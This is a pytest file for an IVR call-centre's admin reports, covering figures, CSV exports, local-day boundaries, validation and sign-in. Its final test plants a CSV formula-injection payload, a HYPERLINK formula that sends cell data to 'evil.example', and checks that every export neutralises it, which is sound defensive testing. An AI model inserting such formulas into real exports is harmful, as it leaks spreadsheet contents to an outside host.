"""Admin reports: exact figures on the page and in the CSV exports, from rows written straight
into the database (in production calls and AMI write them), across two local days with calls
on both sides of local midnight (Asia/Ho_Chi_Minh, UTC+7: local midnight is 17:00 UTC)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

from ivr.app import RunningIvr
from ivr.core.models import (
    AgentEvent,
    CallRecord,
    QueueCall,
    SurveyResponse,
    Ticket,
    UnansweredQuestion,
)
from ivr.reports import NAMES
from tests.admin_client import HTML, AdminClient, add_users, signed_in
from tests.conftest_postgres import both_databases

NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)  # 10:00 on Tuesday 24 November, local
RANGE = "start=2026-11-22&end=2026-11-23"


def utc(day: int, hour: int, minute: int = 0, second: int = 0) -> datetime:
    return datetime(2026, 11, day, hour, minute, second, tzinfo=UTC)


def call(call_id: str, started: datetime, **fields: Any) -> CallRecord:
    values: dict[str, Any] = {
        "flow": "health_hotline",
        "number_dialled": "19001234",
        "caller": "0912345678",
        "entry": "new",
        "path": ["choose_language", "main_menu"],
        "tags": [],
        "self_service": [],
        "outcome": "hangup",
        **fields,
    }
    return CallRecord(call_id=call_id, started_at=started, ended_at=started, **values)


def queued(call_id: str, joined: datetime, outcome: str, hold: float, **fields: Any) -> QueueCall:
    connected = joined + timedelta(seconds=hold) if outcome == "answered" else None
    return QueueCall(
        call_id=call_id,
        queue=fields.pop("queue", "insurance"),
        caller="0912345678",
        joined_at=joined,
        outcome=outcome,
        hold_s=hold if outcome != "waiting" else None,
        connected_at=connected,
        **fields,
    )


def survey(call_id: str, score: int, at: datetime, by: str, agent: str | None) -> SurveyResponse:
    return SurveyResponse(
        call_id=call_id,
        score=score,
        via="dtmf",
        handled_by=by,
        agent=agent,
        queue="insurance" if by == "human" else None,
        language="vi",
        answered_at=at,
    )


def agent(name: str, event: str, at: datetime, queue: str = "insurance") -> AgentEvent:
    return AgentEvent(agent=name, queue=queue, event=event, at=at, reason="")


def fill(ivr: RunningIvr) -> None:
    ai_path = ["choose_language", "main_menu", "agent_hours", "ai_agent"]
    rows: list[Any] = [
        # 22 Nov local: 08:30 answered by agent A; 23:59:30 abandoned
        call(
            "c1",
            utc(22, 1, 30),
            queue="insurance",
            handled_by="human",
            category="card",
            outcome="queue",
        ),
        call("c2", utc(22, 16, 59, 30), queue="insurance", handled_by="human", outcome="queue"),
        # 23 Nov local: 00:00:30 after hours, the AI alone; 10:15 overflow, the AI, then agent
        # B; 10:40 self-service; 12:00 another flow
        call(
            "c3",
            utc(22, 17, 0, 30),
            tags=["after-hours"],
            handled_by="ai",
            path=ai_path,
            category="card",
            self_service=["balance"],
        ),
        call(
            "c4",
            utc(23, 3, 15),
            tags=["overflow"],
            handled_by="human",
            path=[*ai_path, "agent"],
            queue="insurance",
            outcome="queue",
        ),
        call(
            "c5",
            utc(23, 3, 40),
            handled_by="ivr",
            self_service=["auth", "balance"],
            category="payment",
        ),
        call("c7", utc(23, 5, 0), flow="other_line"),
        # outside: 23:59 on 21 Nov and 00:00 on 24 Nov, local
        call("c0", utc(21, 16, 59), tags=["overflow"]),
        call("c9", utc(23, 17, 0), handled_by="ai", path=ai_path),
        queued("c1", utc(22, 1, 30, 5), "answered", 10, agent="A", talk_s=100),
        queued("c2", utc(22, 16, 59, 40), "abandoned", 30),
        queued("c4", utc(23, 3, 20), "answered", 25, agent="B", talk_s=60),
        queued("c8", utc(23, 4, 0), "waiting", 0),
        queued("c0", utc(21, 16, 59, 30), "answered", 5, agent="A", talk_s=10),
        agent("A", "login", utc(22, 1)),
        agent("A", "pause", utc(22, 2)),
        agent("A", "pause", utc(22, 2, 5), queue="insurance-en"),  # overlaps: one pause
        agent("A", "unpause", utc(22, 2, 15)),
        agent("A", "unpause", utc(22, 2, 20), queue="insurance-en"),
        agent("A", "pause", utc(22, 5)),
        agent("A", "logout", utc(22, 5, 30)),
        agent("B", "login", utc(22, 16, 30)),  # 23:30 local
        agent("B", "pause", utc(22, 16, 50)),  # 23:50 local, until 00:10
        agent("B", "unpause", utc(22, 17, 10)),
        agent("B", "logout", utc(23, 10)),
        survey("c1", 4, utc(22, 1, 33), "human", "A"),
        survey("c3", 5, utc(22, 17, 5), "ai", None),
        survey("c4", 2, utc(23, 3, 25), "human", "B"),
        survey("c0", 1, utc(21, 16, 59, 50), "human", "A"),
        Ticket(
            reference="T1",
            call_id="c3",
            caller="0912345678",
            language="vi",
            level1="transaction",
            category="card-lost",
            summary="...",
            status="open",
            created_at=utc(22, 17, 6),
            due_at=utc(24, 17),
        ),
    ]
    for day, text in (
        (22, "có trả bằng thẻ được không"),
        (23, "có trả bằng thẻ được không"),
        (23, "văn phòng ở đâu"),
        (24, "văn phòng ở đâu"),
    ):
        rows.append(UnansweredQuestion(language="vi", text=text, asked_at=utc(day, 3)))
    with ivr.services.outbox.database.session() as session:
        session.add_all(rows)


def table(client: AdminClient, name: str, query: str = RANGE) -> list[list[str]]:
    reply = client.get(f"/admin/reports/{name}.csv?{query}")
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))


def figures(client: AdminClient, query: str = RANGE) -> dict[str, str]:
    return {row[0]: row[1] for row in table(client, "summary", query)[1:]}


def ready(make_ivr: Any, backing: dict[str, str] | None = None) -> tuple[RunningIvr, AdminClient]:
    ivr = make_ivr(clock=NOW, **(backing or {}))
    add_users(ivr)
    fill(ivr)
    return ivr, signed_in(ivr, "viewer")


@both_databases
def test_call_figures_count_local_days_and_hours(make_ivr: Any, backing: dict[str, str]) -> None:
    _ivr, viewer = ready(make_ivr, backing)
    summary = figures(viewer)
    assert summary["Calls"] == "6"
    assert summary["Answered by an agent"] == "2"
    assert summary["Abandoned in a queue"] == "1"
    assert summary["Overflow (queue full, too long or no agent)"] == "1"
    assert summary["After hours"] == "1"
    assert summary["AI-handled"] == "2"
    assert summary["AI-handled, no agent reached"] == "1"
    assert summary["Containment (%)"] == "50.0"
    assert summary["Average wait before an agent answered (s)"] == "17.5"
    assert summary["Average talk time (s)"] == "80.0"
    assert summary["Service level: answered within 20 s (%)"] == "33.3"
    assert summary["Questions the AI agent could not answer"] == "3"
    assert summary["Satisfaction responses"] == "3"
    assert summary["Average satisfaction (1-5)"] == "3.67"
    days = table(viewer, "calls_by_day")
    assert days[0] == [
        "Day",
        "Calls",
        "Answered by an agent",
        "Abandoned",
        "Overflow",
        "After hours",
        "AI-handled",
    ]
    assert days[1:] == [
        ["2026-11-22", "2", "1", "1", "0", "0", "0"],
        ["2026-11-23", "4", "1", "0", "1", "1", "2"],
    ]
    hours = {row[0]: row[1:] for row in table(viewer, "calls_by_hour")[1:]}
    assert len(hours) == 24
    assert hours["00"] == ["1", "0", "0", "0", "1", "1"]  # 00:00:30 local, 17:00 UTC the day before
    assert hours["23"] == ["1", "0", "1", "0", "0", "0"]
    assert hours["08"][0] == "1" and hours["10"][:2] == ["2", "1"] and hours["12"][0] == "1"
    assert sum(int(row[0]) for row in hours.values()) == 6
    one_day = figures(viewer, "start=2026-11-23")  # the end defaults to the start
    assert one_day["Calls"] == "4" and one_day["Abandoned in a queue"] == "0"


@both_databases
def test_queues_service_level_and_filters(make_ivr: Any, backing: dict[str, str]) -> None:
    _ivr, viewer = ready(make_ivr, backing)
    queues = table(viewer, "queues", RANGE + "&within=30")
    assert queues[1] == [
        "insurance",
        "3",
        "2",
        "1",
        "0",
        "2",
        "66.7",
        "17.5",
        "30.0",
        "80.0",
        "160",
    ]
    assert queues[2][0] == "All queues" and queues[2][1:] == queues[1][1:]
    assert figures(viewer, RANGE + "&flow=health_hotline")["Calls"] == "5"
    assert figures(viewer, RANGE + "&queue=insurance")["Calls"] == "3"
    assert figures(viewer, RANGE + "&flow=other_line")["Answered by an agent"] == "0"


@both_databases
def test_topics_unanswered_and_satisfaction(make_ivr: Any, backing: dict[str, str]) -> None:
    _ivr, viewer = ready(make_ivr, backing)
    assert table(viewer, "categories")[1:] == [["card", "2"], ["payment", "1"]]
    assert table(viewer, "self_service")[1:] == [["balance", "2"], ["auth", "1"]]
    assert table(viewer, "tags")[1:] == [["after-hours", "1"], ["overflow", "1"]]
    assert table(viewer, "tickets")[1:] == [["transaction", "card-lost", "1"]]
    assert table(viewer, "unanswered")[1:] == [
        ["có trả bằng thẻ được không", "vi", "2"],
        ["văn phòng ở đâu", "vi", "1"],
    ]
    assert table(viewer, "satisfaction_scores")[1:] == [
        ["1", "0", "0.0"],
        ["2", "1", "33.3"],
        ["3", "0", "0.0"],
        ["4", "1", "33.3"],
        ["5", "1", "33.3"],
    ]
    assert table(viewer, "satisfaction_by")[1:] == [["ai", "1", "5.0"], ["human", "2", "3.0"]]
    assert table(viewer, "satisfaction_agents")[1:] == [["A", "1", "4.0"], ["B", "1", "2.0"]]


@both_databases
def test_agents_per_local_day(make_ivr: Any, backing: dict[str, str]) -> None:
    _ivr, viewer = ready(make_ivr, backing)
    agents = table(viewer, "agents")
    assert agents[0][:4] == ["Day", "Agent", "First log-in", "Last log-out"]
    assert agents[1:] == [
        [
            "2026-11-22",
            "A",
            "08:00:00",
            "12:30:00",
            "08:30:15",
            "08:30:15",
            "1",
            "100",
            "2",
            "3000",
        ],
        ["2026-11-22", "B", "23:30:00", "", "", "", "0", "0", "1", "1200"],
        ["2026-11-23", "B", "", "17:00:00", "10:20:25", "10:20:25", "1", "60", "0", "0"],
    ]
    one_queue = table(viewer, "agents", RANGE + "&queue=insurance")
    assert one_queue[1][8:] == ["2", "2700"]  # the other queue's overlapping pause is gone


def test_the_page_shows_tables_charts_and_csv_links(make_ivr: Any) -> None:
    _ivr, viewer = ready(make_ivr)
    page = viewer.get(f"/admin/reports?{RANGE}")
    assert page.status_code == 200
    text = page.text
    assert "From <strong>2026-11-22</strong> to <strong>2026-11-23</strong>" in text
    assert "Asia/Ho_Chi_Minh" in text and text.count("<svg") == 3
    assert 'href="/admin/reports/agents.csv?start=2026-11-22&amp;end=2026-11-23"' in text
    assert '<td>Containment (%)</td><td class="num">50.0</td>' in text
    assert "0:45:00" not in text and "0:50:00" in text  # A's pause time, as h:mm:ss
    assert "<title>10: 2</title>" in text
    today = viewer.get("/admin/reports")  # today, 24 November: c9 at 00:00 local
    assert today.status_code == 200 and "<strong>2026-11-24</strong>" in today.text
    assert figures(viewer, "")["Calls"] == "1"
    week = figures(viewer, "preset=7")  # 18 to 24 November
    assert week["Calls"] == "8"


def test_bad_parameters_are_refused_in_plain_words(make_ivr: Any) -> None:
    _ivr, viewer = ready(make_ivr)
    backwards = viewer.get("/admin/reports?start=2026-11-23&end=2026-11-22")
    assert backwards.status_code == 422
    assert "The end date 2026-11-22 is before the start date 2026-11-23." in backwards.text
    no_date = viewer.get("/admin/reports?start=2026-02-30")
    assert no_date.status_code == 422
    assert (
        "The start date &#39;2026-02-30&#39; is not a date: write it as YYYY-MM-DD." in no_date.text
    )
    target = viewer.http.get("/admin/reports/queues.csv?within=soon")
    assert target.status_code == 422
    assert "whole number of seconds" in target.json()["error"]
    preset = viewer.get("/admin/reports/summary.csv?preset=99", headers=HTML)
    assert preset.status_code == 422 and "Unknown range" in preset.text
    assert "Traceback" not in preset.text
    assert viewer.get("/admin/reports/nothing.csv").status_code == 404


def test_a_viewer_reads_a_signed_out_client_is_sent_to_sign_in(make_ivr: Any) -> None:
    ivr, _viewer = ready(make_ivr)
    outsider = AdminClient(ivr)
    page = outsider.get("/admin/reports?preset=7")
    assert page.status_code == 303
    assert page.headers["location"] == "/admin/login?next=/admin/reports%3Fpreset%3D7"
    assert outsider.http.get("/admin/reports/summary.csv").status_code == 401
    for role in ("viewer", "supervisor", "admin"):
        assert signed_in(ivr, role).get(f"/admin/reports?{RANGE}").status_code == 200


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_every_csv_export_neutralises_formulas(make_ivr: Any) -> None:
    """Text from callers, agents and the dialplan reaches every table; in the CSV, a cell
    that a spreadsheet would run as a formula starts with a single quote instead."""
    ivr, viewer = ready(make_ivr)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    at = utc(23, 4, 30)
    rows: list[Any] = [
        call(
            "f1",
            at,
            queue="+queue",
            handled_by="human",
            category=evil,
            tags=["-tag"],
            self_service=["@sum"],
            outcome="\tend",
        ),
        queued("f1", at, "answered", 5, queue="+queue", agent="=agent", talk_s=10),
        agent("=agent", "login", utc(23, 4)),
        agent("=agent", "logout", utc(23, 5)),
        survey("f1", 3, at, "\rhuman", "=agent"),
        UnansweredQuestion(language="vi", text=evil, asked_at=at),
        Ticket(
            reference="T2",
            call_id="f1",
            caller="0912345678",
            language="vi",
            level1="@level",
            category="-category",
            summary="...",
            status="open",
            created_at=at,
            due_at=utc(24, 17),
        ),
    ]
    with ivr.services.outbox.database.session() as session:
        session.add_all(rows)
    seen: set[str] = set()
    for name in NAMES:
        cells = [cell for row in table(viewer, name) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
        seen |= {c for c in cells if c.startswith("'")}
    assert "'" + evil in seen  # the category and the unanswered question
    assert {"'+queue", "'=agent", "'-tag", "'@sum", "'@level", "'-category"} <= seen
